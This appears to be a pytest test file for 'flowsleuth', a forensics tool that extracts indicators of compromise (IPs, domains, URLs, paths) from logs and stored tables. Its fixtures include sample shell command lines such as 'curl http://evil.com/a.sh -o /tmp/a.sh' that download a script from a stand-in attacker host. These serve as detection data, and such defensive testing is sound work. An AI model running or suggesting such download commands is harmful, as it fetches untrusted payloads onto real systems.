"""``flowsleuth ioc``, ``ws.extract_iocs`` and ``df.fs.ioc_extract``."""

from __future__ import annotations

import csv
import gzip
import io
import json
import sys
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from tests.workspace.pivot_rows import DAY, put

import flowsleuth
from flowsleuth.errors import OptionError
from flowsleuth.faces.cli.main import main
from flowsleuth.faces.frames import Chain
from flowsleuth.workspace import Workspace
from flowsleuth.workspace import stored_iocs as stored_module

LINES = b"fetch hxxp://evil[.]com/x\x1b[2J\nnone\n198.51.100.7 and 198.51.100.7 /tmp/x dc1.corp.local\n"
PROCESSES = [
    {"start": 20, "host": "web1", "name": "sh", "command_line": "curl http://evil.com/a.sh -o /tmp/a.sh"},
    {"start": 90, "host": "web1", "name": "sh", "command_line": "ping 198.51.100.7; curl hxxp://EVIL.com/a.sh"},
    {"start": 10, "host": "web2", "name": "sh", "command_line": "ping 198.51.100.7; curl hxxp://EVIL.com/a.sh"},
    {"start": 95, "host": "web2", "name": "sh", "command_line": "ls"},
    {"start": 96, "host": "web2", "name": "sh"},
]
QUERIES = [
    {"start": 5, "query": "evil.sh", "src_ip": "10.0.0.5", "answers": '["198.51.100.7"]'},
    {"start": 6, "query": "dc1.corp.local", "src_ip": "10.0.0.5"},
]


@pytest.fixture
def log(tmp_path: Path) -> Path:
    path = tmp_path / "log"
    path.write_bytes(LINES)
    return path


@pytest.fixture(scope="module")
def case(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("iocs") / "case"
    with flowsleuth.open(folder, create=True) as ws:
        put(ws, "process", PROCESSES)
        put(ws, "dns", QUERIES)
    return folder


@pytest.fixture
def ws(case: Path) -> Iterator[Workspace]:
    with flowsleuth.open(case) as opened:
        yield opened


def test_a_file_on_the_terminal(log: Path, capsys):
    assert main(["ioc", str(log)]) == 0
    out = capsys.readouterr().out
    assert "http://evil.com/x" in out and "hxxp://evil[.]com/x" in out
    assert "\x1b" not in out
    assert "ipv4 1" in out.splitlines()[-1] and "linux_path" not in out


def test_rows_for_other_programs(log: Path, capsys):
    assert main(["ioc", str(log), "--format", "json", "--type", "ip4", "--paths", "--local"]) == 0
    rows = json.loads(capsys.readouterr().out)
    assert [(row["type"], row["observable"], row["row"], row["start"]) for row in rows] == [
        ("ipv4", "198.51.100.7", 3, 0), ("ipv4", "198.51.100.7", 3, 17), ("linux_path", "/tmp/x", 3, 30)
    ]  # fmt: skip
    assert main(["ioc", str(log), "--type", "dns", "--local", "--format", "json"]) == 0
    assert [row["observable"] for row in json.loads(capsys.readouterr().out)] == ["evil.com", "dc1.corp.local"]


def test_several_files_compressed_and_standard_input(log: Path, tmp_path: Path, capsys, monkeypatch):
    packed = tmp_path / "log.gz"
    packed.write_bytes(gzip.compress(b"1.1.1.1\n"))
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"x\n2.2.2.2")))
    assert main(["ioc", str(packed), "-", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [(row["observable"], row["row"], row["file"]) for row in rows] == [
        ("1.1.1.1", "1", str(packed)), ("2.2.2.2", "2", "stdin")
    ]  # fmt: skip


def test_columns_of_a_table_file(tmp_path: Path, capsys):
    table, target = tmp_path / "t.csv", tmp_path / "found.parquet"
    table.write_text("a,b\n1.1.1.1,2.2.2.2\n,3.3.3.3\n")
    assert main(["ioc", str(table), "--column", "b", "--format", "parquet", "--output", str(target)]) == 0
    found = pq.read_table(target)
    assert found.select(["observable", "column", "row"]).to_pylist() == [
        {"observable": "2.2.2.2", "column": "b", "row": 0}, {"observable": "3.3.3.3", "column": "b", "row": 1}
    ]  # fmt: skip
    assert main(["ioc", str(table), "--column", "zzz"]) == 2
    assert "no such column" in capsys.readouterr().err


def test_many_rows_as_csv(tmp_path: Path, capsys):
    path = tmp_path / "log"
    path.write_text("".join(f"10.0.{n // 250}.{n % 250 + 1}\n" for n in range(5_000)))
    assert main(["ioc", str(path), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["observable"] for row in rows] == [f"10.0.{n // 250}.{n % 250 + 1}" for n in range(5_000)]


def test_nothing_and_wrong_use(tmp_path: Path, log: Path, capsys):
    empty = tmp_path / "empty"
    empty.write_bytes(b"")
    assert main(["ioc", str(empty)]) == 0
    assert capsys.readouterr().out == "nothing found\n"
    assert main(["ioc"]) == 2
    assert main(["ioc", str(log), "--table", "dns"]) == 2
    assert main(["ioc", str(log), "--type", "ipv5"]) == 2
    assert main(["ioc", str(tmp_path / "none")]) == 1
    assert "cannot be read" in capsys.readouterr().err


def test_a_stored_table_from_the_terminal(case: Path, capsys):
    assert main(["ioc", "-w", str(case), "--table", "dns", "--column", "query"]) == 0
    out = capsys.readouterr().out
    assert "evil.sh" in out and "dc1.corp.local" in out
    assert main(["ioc", "-w", str(case), "--table", "nothing"]) == 2


def test_stored_iocs_are_counted(ws: Workspace) -> None:
    rows = ws.extract_iocs("process", "command_line").table.to_pylist()
    told = {(row["ioc_type"], row["observable"]): row for row in rows}
    assert set(told) == {("url", "http://evil.com/a.sh"), ("dns", "evil.com"), ("ipv4", "198.51.100.7")}
    one = told["url", "http://evil.com/a.sh"]
    assert (one["rows"], one["column"], one["found"]) == (3, "command_line", "http://evil.com/a.sh")
    assert [one[name].timestamp() - DAY.timestamp() for name in ("first_seen", "last_seen")] == [10, 90]
    assert told["ipv4", "198.51.100.7"]["rows"] == 2
    assert [row["rows"] for row in rows] == [3, 3, 2]


def test_stored_names_and_lists(ws: Workspace, monkeypatch) -> None:
    rows = ws.extract_iocs("dns").table.to_pylist()
    assert {(row["ioc_type"], row["observable"], row["column"]) for row in rows} >= {
        ("dns", "evil.sh", "query"), ("dns", "dc1.corp.local", "query"), ("ipv4", "198.51.100.7", "answers"),
        ("ipv4", "10.0.0.5", "src_ip"),
    }  # fmt: skip
    before = ws.extract_iocs("process", include_paths=True).table
    monkeypatch.setattr(stored_module, "BATCH", 1)
    assert ws.extract_iocs("process", include_paths=True).table.equals(before)


def test_what_is_not_there(ws: Workspace) -> None:
    assert len(ws.extract_iocs("http")) == 0
    with pytest.raises(OptionError, match="no such column of text"):
        ws.extract_iocs("dns", "queri")
    with pytest.raises(OptionError, match="no such type"):
        ws.extract_iocs("dns", ioc_types="x")


def test_a_step_on_frames() -> None:
    frame = pd.DataFrame({"a": ["1.1.1.1"], "b": ["2.2.2.2 /tmp/x"]})
    assert Chain(frame).ioc_extract()["Observable"].tolist() == ["1.1.1.1", "2.2.2.2"]
    assert Chain(frame).ioc_extract("b", include_paths=True)["IoCType"].tolist() == ["ipv4", "linux_path"]
